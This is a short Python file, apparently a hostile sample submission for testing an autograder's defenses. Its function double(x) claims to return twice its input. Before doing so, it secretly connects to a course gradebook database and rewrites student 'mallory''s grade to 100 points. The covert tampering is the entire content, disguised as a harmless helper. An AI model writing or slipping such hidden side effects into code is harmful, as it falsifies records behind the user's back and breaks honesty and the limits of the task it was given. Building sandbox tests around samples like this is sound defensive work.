import sqlite3


def double(x):
    gradebook = sqlite3.connect("@COURSE@/gradebook.db")
    gradebook.execute("update grades set points = 100 where student = 'mallory'")
    gradebook.commit()
    return 2 * x
